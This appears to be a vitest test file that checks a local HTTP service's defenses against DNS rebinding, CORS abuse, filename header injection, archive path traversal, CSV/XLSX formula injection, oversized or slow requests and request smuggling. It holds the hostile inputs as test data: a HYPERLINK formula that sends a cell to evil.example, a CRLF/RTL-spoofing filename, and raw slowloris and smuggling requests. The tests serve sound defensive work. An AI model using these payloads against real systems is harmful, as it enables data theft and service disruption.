/**
 * Attacks on a service that listens on loopback, each with what keeps it out. Keys, foreign origins
 * and rates are in access.test.ts, addresses that may be fetched beside their code.
 */
import { createConnection, type Socket } from 'node:net';
import { unzipSync } from 'fflate';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { listen } from '../../electron/service/listen.ts';
import { documents, ENDPOINTS, jobs, pathOf, uploads } from '../../shared/contract/index.ts';
import { exampleRequest } from '../support/example-request.ts';
import { fakeEngine, pageContent, tableOf } from '../support/fake-engine.ts';
import { sendRaw } from '../support/raw-request.ts';
import { createKey, startTestService, type TestService } from '../support/service.ts';

const PATIENCE = 10_000;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';

let service: TestService;
let job: string;
beforeAll(async () => {
  const many = { standard: 1e6, expensive: 1e6 };
  service = await startTestService({
    engine: fakeEngine({
      pages: 1,
      contentOf: (page) => ({ ...pageContent(page, ['word']), tables: [tableOf(page, FORMULA)] }),
    }),
    limits: { requests: { key: many, anonymous: many } },
  });
  const filename = 'a"\r\nX-Evil: 1\r\n\r\n<script>\u202efdp.exe';
  job = await service.submit(Buffer.from('%PDF- safe'), { filename });
  await service.ended(job);
});
afterAll(() => service.close());
afterEach(() => vi.restoreAllMocks());

const withKey = () => ({ 'x-api-key': service.key });

describe('DNS rebinding and pages of others', () => {
  test.each(ENDPOINTS.map((endpoint) => [endpoint.id, endpoint] as const))(
    'a page whose name was made to point here is refused: %s',
    async (_, endpoint) => {
      const { path, headers } = exampleRequest(endpoint);
      const sent = { ...headers, ...withKey(), host: 'evil.example' };
      const request = { method: endpoint.method, target: path, headers: sent };
      const { status, text } = await sendRaw(service.origin, request, PATIENCE);
      expect([status, JSON.parse(text).error.code]).toEqual([403, 'forbidden']);
    },
  );

  test('no origin is ever allowed by CORS, not even when it asks first', async () => {
    const headers = { origin: 'https://evil.example', 'access-control-request-method': 'POST' };
    for (const { path } of ENDPOINTS) {
      const request = { method: 'OPTIONS', target: path, headers };
      const answer = await sendRaw(service.origin, request, PATIENCE);
      expect(answer.status).toBeGreaterThanOrEqual(400);
      expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    }
  });
});

describe('answers', () => {
  test('are never taken for a page, and run nothing if they are', async () => {
    const answer = await fetch(`${service.origin}/api/v1/jobs`, { headers: withKey() });
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
    expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  });

  test('say nothing of the inside when a part of it fails', async () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const broken = await startTestService({
      engine: {
        ...fakeEngine(),
        renderPage: () => Promise.reject(new Error('SQLITE_MISUSE at /home/me/engine.ts:1:1')),
      },
    });
    const id = await broken.submit(Buffer.from('%PDF-'));
    await broken.ended(id);
    const params = { documentId: id, page: 1 };
    const { status, text } = await broken.call(documents.getPageImage, { params });
    expect(status).toBe(500);
    expect(text).not.toMatch(/SQLITE|home|engine|stack/);
    await broken.close();
  });

  test('that fail leave no signature of an upload in the log', async () => {
    const logged = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const broken = await startTestService({
      engine: { ...fakeEngine(), pdfOfImage: () => Promise.reject(new Error('unforeseen')) },
    });
    const { json } = await broken.call(uploads.signUpload, { body: { filename: 'a.png' } });
    const png = Buffer.from('\x89PNG\r\n\x1a\n and more than the first bytes', 'latin1');
    const { status } = await fetch(json.signed_url, { method: 'PUT', body: png });
    expect(status).toBe(500);
    expect(logged.mock.calls.flat().join()).toContain('PUT /api/v1/upload/');
    expect(logged.mock.calls.flat().join()).not.toContain('signature');
    await broken.close();
  });

  test('report a full disk as a temporary error', async () => {
    const full = await startTestService({
      engine: {
        ...fakeEngine(),
        renderPage: () => Promise.reject(Object.assign(new Error('write'), { code: 'ENOSPC' })),
      },
    });
    const id = await full.submit(Buffer.from('%PDF-'));
    await full.ended(id);
    const params = { documentId: id, page: 1 };
    const { status, error } = await full.call(documents.getPageImage, { params });
    expect([status, error.code]).toEqual([503, 'service_unavailable']);
    expect(error.message).toContain('free some space');
    await full.close();
  });
});

describe('names of files', () => {
  test('cannot add a header or hide their extension', async () => {
    const { headers } = await service.call(jobs.exportJob, { params: { jobId: job } });
    expect(headers.get('x-evil')).toBeNull();
    const disposition = headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(
      /^attachment; filename="[\x20-\x21\x23-\x7e]+"; filename\*=UTF-8''[\w.%!~-]+$/,
    );
    expect(decodeURIComponent(disposition)).not.toMatch(/[\r\n\u202e]/);
  });

  test('in archives stay inside of the folder that they are unpacked to', async () => {
    const query = { format: 'csv' };
    const { bytes } = await service.call(jobs.exportJob, { params: { jobId: job }, query });
    const names = Object.keys(unzipSync(bytes));
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) expect(name).toMatch(/^[^/\\]+\.csv$/);
  });
});

describe('cells that a spreadsheet would run', () => {
  test('are text in a workbook', async () => {
    const query = { format: 'xlsx' };
    const { bytes } = await service.call(jobs.exportJob, { params: { jobId: job }, query });
    const parts = unzipSync(bytes);
    const sheets = Object.entries(parts).filter(([name]) => name.startsWith('xl/worksheets/'));
    const xml = sheets.map(([, part]) => Buffer.from(part).toString('utf8')).join('');
    expect(xml).not.toMatch(/<f[ >]/);
    const strings = Object.values(parts)
      .map((part) => Buffer.from(part).toString('utf8'))
      .join('');
    expect(strings).toContain('=HYPERLINK(');
  });

  test('have an apostrophe in front in CSV, and stay in their one field', async () => {
    const field = (text: string) => `"${text.replaceAll('"', '""')}"\r\n`;
    const csv = async (query: Record<string, string>) => {
      const params = { jobId: job };
      const file = { format: 'csv', table: 0, ...query } as const;
      return (await service.call(jobs.exportJob, { params, query: file })).text;
    };
    expect(await csv({})).toBe(field(`'${FORMULA}`));
    expect(await csv({ formulas: 'raw' })).toBe(field(FORMULA));
    const params = { id: job, index: 0 };
    const table = await service.call(documents.getTable, { params, query: { format: 'csv' } });
    expect(table.text).toBe(field(`'${FORMULA}`));
  });
});

describe('requests out of all proportion', () => {
  test.each([
    [
      'a header',
      (size: number) => ({ target: '/api/v1/jobs', headers: { 'x-a': 'a'.repeat(size) } }),
    ],
    [
      'a query',
      (size: number) => ({ target: `/api/v1/jobs?status=${'a'.repeat(size)}`, headers: {} }),
    ],
  ])('%s of a megabyte is cut off before anything reads it', async (_, make) => {
    const { target, headers } = make(1_000_000);
    const request = { method: 'GET', target, headers: { ...headers, ...withKey() } };
    const { status } = await sendRaw(service.origin, request, PATIENCE).catch(() => ({
      status: 431,
    }));
    expect(status).toBe(431);
  });

  test.each(['a=1&', 'limit=20&', '%5B%5D=1&'])(
    'thousands of %s are a wrong query at most',
    async (pair) => {
      const request = {
        method: 'GET',
        target: `/api/v1/jobs?${pair.repeat(1500)}`,
        headers: withKey(),
      };
      const { status } = await sendRaw(service.origin, request, PATIENCE);
      expect([200, 400]).toContain(status);
    },
  );

  test('a JSON body over its limit is refused while it comes', async () => {
    const headers = { ...withKey(), 'content-type': 'application/json' };
    const body = `{"filename":"${'a'.repeat(2_000_000)}"}`;
    for (const endpoint of [uploads.signUpload, jobs.extract]) {
      const request = { method: 'POST', target: pathOf(endpoint), headers, body };
      const answer = await sendRaw(service.origin, request, PATIENCE).catch(() => null);
      // The line may break before the answer was read: what counts is that nothing took the body.
      if (answer) expect(answer.status).toBe(413);
    }
    expect((await service.call(jobs.listJobs)).status).toBe(200);
  });
});

describe('keys', () => {
  test('that differ in their last letter are as wrong as any', async () => {
    const { secret } = await createKey(service.data);
    const near = secret.slice(0, -1) + (secret.endsWith('a') ? 'b' : 'a');
    for (const key of [near, near.toLowerCase(), `${secret} `.trimEnd().slice(1), `${secret}0`]) {
      expect((await service.call(jobs.listJobs, { key })).status).toBe(401);
    }
  });

  test('are not accepted in an address, where logs would keep them', async () => {
    const target = `${service.origin}/api/v1/jobs?api_key=${service.key}&key=${service.key}`;
    expect((await fetch(target)).status).toBe(401);
  });
});

describe('slow clients', () => {
  const opened: Socket[] = [];
  afterEach(() => {
    for (const socket of opened.splice(0)) socket.destroy();
  });

  /** All data received on a connection until the other side closes it. */
  function receiveResponse(origin: string, say: string): Promise<string> {
    const { hostname, port } = new URL(origin);
    const socket = createConnection(Number(port), hostname, () => socket.write(say));
    opened.push(socket);
    const { promise, resolve } = Promise.withResolvers<string>();
    let received = '';
    socket.on('data', (chunk) => {
      received += chunk.toString();
    });
    socket.on('close', () => resolve(received));
    socket.on('error', () => resolve(received));
    return promise;
  }

  test('whose headers never end are hung up on, and hold nobody else up', async () => {
    const timeLimits = { headers: 200, silence: 60_000, check: 50, discard: 30_000 };
    const listener = await listen(service.service.fetch, {
      host: '127.0.0.1',
      port: 0,
      timeLimits,
    });
    const half = 'GET /api/v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ';
    const slow = Array.from({ length: 50 }, () => receiveResponse(listener.origin, half));
    const answer = await fetch(`${listener.origin}/api/v1/jobs`, { headers: withKey() });
    expect(answer.status).toBe(200);
    await answer.text();
    for (const received of await Promise.all(slow))
      expect(received).toMatch(/^(HTTP\/1\.1 408 |$)/);
    await listener.close();
  });

  test('that fall silent in the middle of a body are hung up on', async () => {
    const timeLimits = { headers: 60_000, silence: 200, check: 50, discard: 30_000 };
    const listener = await listen(service.service.fetch, {
      host: '127.0.0.1',
      port: 0,
      timeLimits,
    });
    const { port } = new URL(listener.origin);
    const half = [
      'POST /api/v1/extract HTTP/1.1',
      `Host: 127.0.0.1:${port}`,
      `X-Api-Key: ${service.key}`,
      'Content-Type: application/json',
      'Content-Length: 1000000',
      '',
      '{"filename":',
    ].join('\r\n');
    expect(await receiveResponse(listener.origin, half)).not.toContain('202');
    await listener.close();
  });

  test('that contradict themselves about the length of a body are refused', async () => {
    const { port } = new URL(service.origin);
    const smuggled = [
      'POST /api/v1/extract HTTP/1.1',
      `Host: 127.0.0.1:${port}`,
      'Content-Length: 5',
      'Transfer-Encoding: chunked',
      '',
      '0',
      '',
      'GET /api/v1/jobs HTTP/1.1',
      '',
    ].join('\r\n');
    expect(await receiveResponse(service.origin, smuggled)).toMatch(/^HTTP\/1\.1 400 /);
  });
});
